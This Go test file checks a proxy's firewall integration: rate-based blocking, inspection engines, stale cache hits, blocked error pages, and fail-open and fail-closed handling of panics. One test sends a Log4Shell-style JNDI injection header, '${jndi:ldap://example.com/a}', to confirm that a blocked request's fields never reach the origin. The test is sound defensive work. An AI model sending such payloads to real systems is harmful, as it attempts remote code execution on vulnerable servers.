package proxy

import (
	"context"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/groundfront/groundfront/origin/requestpolicy"
	"github.com/groundfront/groundfront/proxy/errorpage"
	"github.com/groundfront/groundfront/proxy/viewer"
	"github.com/groundfront/groundfront/waf"
	"github.com/groundfront/groundfront/waf/ipset"
	"github.com/groundfront/groundfront/waf/ratelimit"
)

// acted counts what rules do: "rule action".
type acted map[string]int

type actedCounter struct {
	acted acted
	name  string
}

func (c actedCounter) Add(uint8) { c.acted[c.name]++ }

// blocking returns a web ACL that counts the requests of 198.51.100.10, and
// blocks all but n of each address.
func blocking(t *testing.T, a acted, n uint64) *waf.ACL {
	t.Helper()
	set, err := ipset.Parse([]string{"198.51.100.10/32"})
	if err != nil {
		t.Fatal(err)
	}
	acl, err := waf.New(waf.Config{
		Name: "edge",
		Rules: []waf.Rule{
			{Name: "seen", Statement: waf.IPSetReference{Name: "one", Set: set}, Handling: waf.Handling{Action: waf.ActionCount}},
			{
				Name:      "limit",
				Statement: waf.RateBased{Limit: ratelimit.Rule{Limit: n, Evaluation: ratelimit.EvaluationExact}},
				Handling:  waf.Handling{Action: waf.ActionBlock},
			},
		},
		Counter: func(_, rule string, does waf.Action) waf.Counter { return actedCounter{a, rule + " " + does.String()} },
	})
	if err != nil {
		t.Fatal(err)
	}
	return acl
}

// A hitViewer asks a Server as an engine does: Hit first, and then the stages.
type hitViewer struct {
	server *Server
	peer   *viewer.Peer
}

func newHitViewer(s *Server) *hitViewer {
	return &hitViewer{s, &viewer.Peer{Remote: netip.MustParseAddrPort("198.51.100.10:40001")}}
}

// ask returns "hit", or the status that the stages have answered with.
func (v *hitViewer) ask(t *testing.T, path string) string {
	var h viewer.Hit
	r := request("GET http://shop.test"+path, "")
	r.Peer, r.Remote, r.Received = v.peer, v.peer.Remote, time.Now()
	if v.server.Hit(&h, r) {
		return "hit"
	}
	r.Tried = true
	w := new(recorder)
	v.server.Serve(t.Context(), w, r)
	return fmt.Sprint(w.status)
}

// TestInspectedOnce: each request is inspected and counted once, whichever way it
// goes. Hit declines a request that it finds blocked, and the stages answer it
// without counting it again; they count one that Hit has not inspected.
func TestInspectedOnce(t *testing.T) {
	s := benchServer(t)
	for range 2 { // stored, and learned
		s.Serve(t.Context(), &discard{}, request("GET http://shop.test/p", ""))
		if err := s.Drain(t.Context()); err != nil {
			t.Fatal(err)
		}
	}
	rules := acted{}
	s.Snapshot().Distributions[0].WebACL = blocking(t, rules, 10)
	v := newHitViewer(s)
	var got []string
	ask := func(path string) { got = append(got, v.ask(t, path)) }
	for i := range 5 {
		ask("/p")
		ask(fmt.Sprint("/miss/", i))
	}
	for range 3 {
		ask("/p") // Hit finds it blocked
	}
	ask("/miss/5") // the stages do
	want := append(slices.Repeat([]string{"hit", "200"}, 5), "403", "403", "403", "403")
	if !slices.Equal(got, want) {
		t.Errorf("answers: got %s, want %s", strings.Join(got, " "), strings.Join(want, " "))
	}
	if got, want := fmt.Sprint(rules), fmt.Sprint(acted{"seen count": 14, "limit block": 4, "Default_Action allow": 10}); got != want {
		t.Errorf("rules: got %s, want %s", got, want)
	}
}

// firewalled asks for paths, of which /p is stored, and returns the statuses.
func firewalled(t *testing.T, acl *waf.ACL, paths ...string) (got string) {
	t.Helper()
	s := benchServer(t)
	for range 2 {
		s.Serve(t.Context(), &discard{}, request("GET http://shop.test/p", ""))
		if err := s.Drain(t.Context()); err != nil {
			t.Fatal(err)
		}
	}
	s.Snapshot().Distributions[0].WebACL = acl
	v := newHitViewer(s)
	for _, path := range paths {
		got += v.ask(t, path) + " "
	}
	return got
}

// An engine says no to all.
type engine struct{ asked int }

func (*engine) Labels() []string { return nil }

func (e *engine) Inspect(context.Context, *waf.Request, netip.Addr) (waf.EngineResult, error) {
	e.asked++
	return waf.EngineResult{Match: true}, nil
}

// TestEngine: an engine is asked about what goes to an origin and never about a
// hit, unless it is to be asked about all (WF-ARC-02, WF-ARC-03).
func TestEngine(t *testing.T) {
	for where, want := range map[waf.EngineWhere]string{
		waf.EngineAtOrigin: "hit 403 hit, asked 1",
		waf.EngineAtViewer: "403 403 403 , asked 3",
	} {
		e := &engine{}
		acl, err := waf.New(waf.Config{Name: "edge", Rules: []waf.Rule{
			{Name: "e", Statement: waf.EngineMatch{Name: "e", Engine: e, Where: where}, Handling: waf.Handling{Action: waf.ActionBlock}},
		}})
		if err != nil {
			t.Fatal(err)
		}
		got := firewalled(t, acl, "/p", "/miss/1", "/p")
		if got := fmt.Sprintf("%s, asked %d", strings.TrimSuffix(got, " "), e.asked); got != strings.Replace(want, " ,", ",", 1) {
			t.Errorf("at the %v: got %s, want %s", where, got, want)
		}
	}
}

// TestEngineBehindTheViewer: an engine is asked about a request that is answered
// from the cache and then goes to the origin, to have a fresh response.
func TestEngineBehindTheViewer(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		e := newEdge(t, ok("Cache-Control: max-age=10, stale-while-revalidate=60", "hello"), nil)
		e.ask("GET http://shop.test/p", "")
		no := &engine{}
		acl, err := waf.New(waf.Config{Name: "edge", Rules: []waf.Rule{
			{Name: "e", Statement: waf.EngineMatch{Name: "e", Engine: no}, Handling: waf.Handling{Action: waf.ActionBlock}},
		}})
		if err != nil {
			t.Fatal(err)
		}
		e.server.Snapshot().Distributions[0].WebACL = acl
		e.want(e.ask("GET http://shop.test/p", ""), 200, hit, "hello")
		time.Sleep(15 * time.Second)
		if g := e.ask("GET http://shop.test/p", ""); g.status != 403 || no.asked != 1 || e.requests() != 1 {
			t.Errorf("a stale hit: got %d, asked %d times, and %d requests at the origin, want 403, once, and 1", g.status, no.asked, e.requests())
		}
	})
}

// TestBlockedPage: the page in place of that for a blocked request is asked for
// without the fields of the request.
func TestBlockedPage(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		acl, err := waf.New(waf.Config{Name: "edge", Default: waf.Handling{Action: waf.ActionBlock}})
		if err != nil {
			t.Fatal(err)
		}
		e := newEdge(t, ok("", "sorry"), func(s *Snapshot) {
			d := s.Distributions[0]
			d.WebACL, d.ErrorResponses = acl, errorResponses(t, errorpage.Rule{Status: 403, PagePath: "/sorry.html", ResponseCode: 403})
			if d.Behaviors[0].Rules.RequestPolicy, err = requestpolicy.New(requestpolicy.Config{Headers: requestpolicy.HeadersAllViewer}); err != nil {
				t.Fatal(err)
			}
		})
		g := e.ask("GET http://shop.test/p", "X-Attack: ${jndi:ldap://example.com/a}")
		if g.status != 403 || g.content.String() != "sorry" || e.asked[0].Fields.Has("X-Attack") {
			t.Errorf("got %d %q, and the origin saw %v", g.status, g.content.String(), e.asked[0].Fields)
		}
	})
}

// broken has a bug.
type broken struct{}

func (b broken) For(uint64) waf.Scanner                        { return b }
func (broken) Scan(string) uint64                              { panic("bug") }
func (broken) Find(string, uint64) (what string, from, to int) { return "", 0, 0 }

// TestFirewallPanics: a bug in an evaluation is a request that could not be
// evaluated: it does not end the process, and is blocked or goes on as the web ACL
// says.
func TestFirewallPanics(t *testing.T) {
	for _, test := range []struct {
		fail      waf.Fail
		byDefault waf.Action
		want      string
	}{
		{waf.FailClosed, waf.ActionAllow, "403 403 "},
		{waf.FailOpen, waf.ActionAllow, "hit 200 "},
		{waf.FailOpen, waf.ActionBlock, "403 403 "},
	} {
		fail, want := test.fail, test.want
		failures := acted{}
		acl, err := waf.New(waf.Config{
			Name: "edge", Default: waf.Handling{Action: test.byDefault},
			Rules: []waf.Rule{{
				Name: "b", Handling: waf.Handling{Action: waf.ActionCount},
				Statement: waf.ScanMatch{Scanner: broken{}, Kinds: 1, Inspection: waf.Inspection{Field: waf.Field{Kind: waf.FieldUriPath}}},
			}},
			Budget: waf.Budget{Fail: fail, Failed: func(f waf.Failure) waf.Counter { return actedCounter{failures, f.String()} }},
		})
		if err != nil {
			t.Fatal(err)
		}
		if got := firewalled(t, acl, "/p", "/miss/1"); got != want || failures["panic"] != 2 {
			t.Errorf("fail %v: got %s and %v, want %s and two panics", fail, got, failures, want)
		}
	}
}

// TestNotesOutliveAReload: what Hit has noted by the configuration of that moment is
// told to stages that may have another one by now: nothing passes uninspected, and
// nothing fails.
func TestNotesOutliveAReload(t *testing.T) {
	for _, tt := range []struct {
		name string
		note any
		want int
	}{
		{"throttled, and there are no throttles any more", throttled(time.Second), 429},
		{"to be recorded, and nobody records any more", toRecord{}, 200},
		{"blocked", &waf.Block{}, 403},
	} {
		synctest.Test(t, func(t *testing.T) {
			e := newEdge(t, ok("", "hello"), func(s *Snapshot) {
				s.Distributions[0].WebACL = blocking(t, acted{}, 10)
			})
			r := request("GET http://shop.test/p", "")
			r.Tried, r.Note = true, tt.note
			if got := e.send(r); got.status != tt.want {
				t.Errorf("%s: got %d, want %d", tt.name, got.status, tt.want)
			}
		})
	}
}
